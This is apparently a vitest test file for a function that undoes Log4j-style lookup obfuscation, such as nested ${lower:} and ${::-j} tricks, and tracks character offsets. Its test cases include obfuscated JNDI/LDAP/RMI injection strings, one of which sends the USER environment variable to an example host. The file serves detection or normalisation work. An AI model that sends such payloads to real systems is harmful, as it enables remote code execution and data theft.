import { describe, expect, test } from 'vitest';
import { undoLookup } from './lookup.ts';

describe('a lookup that always says the same', () => {
  test.each([
    ['${lower:J}', 'j'],
    ['${upper:n}', 'N'],
    ['${LOWER:J}', 'j'],
    ['${::-j}', 'j'],
    ['${env:NONE:-j}', 'j'],
    ['${sys:none:-n}', 'n'],
    ['${NONE:-n}', 'n'],
    ['${lower:-x}', 'x'],
    ["${date:'jndi'}", 'jndi'],
    ['${lower:${upper:${::-j}}}', 'j'],
    ['${env:A:-${env:B:-c}}', 'c'],
    ['${${lower:j}ndi:${::-l}dap://x}', '${jndi:ldap://x}'],
    ['${${::-j}${::-n}di:${lower:RMI}://example.com/a}', '${jndi:rmi://example.com/a}'],
    ['${jndi:${lower:l}dap://example.com}', '${jndi:ldap://example.com}'],
    ['${upper:ß}', 'ß'],
    ['a${none:-}b', 'ab'],
    ['${::-x', null],
  ])('%s reads %s', (text, expected) => {
    expect(undoLookup(text)?.text ?? null).toBe(expected);
  });

  test('leads back from its first to its last letter', () => {
    expect(undoLookup('a${lower:BC}d')?.offsets).toEqual([0, 1, 10, 12, 13]);
  });

  test('that says nothing belongs to what stands before it, or after it at the beginning', () => {
    expect(undoLookup('a${x:-}b')?.offsets).toEqual([0, 7, 8]);
    expect(undoLookup('${x:-}b')?.offsets).toEqual([0, 7]);
  });
});

describe('left as they are', () => {
  test.each([
    '',
    '${',
    '${}',
    '}',
    '${jndi:ldap://example.com/a}',
    '${jndi:ldap://${env:USER}.example.com/a}',
    '${jndi:ldap://example.com/:-x}',
    '${env:USER}',
    '${date:MM-dd}',
    "${date:'}",
    '${java:version}',
    '$lower:x',
    '`${a} ${b ? c : -d}`',
    '${x:-}',
  ])('%s', (text) => {
    expect(undoLookup(text)).toBeNull();
  });

  test('the outermost of very many in one another', () => {
    const deep = `${'${lower:'.repeat(20)}A${'}'.repeat(20)}`;
    expect(undoLookup(deep)?.text).toBe(`${'${lower:'.repeat(4)}a${'}'.repeat(4)}`);
  });
});
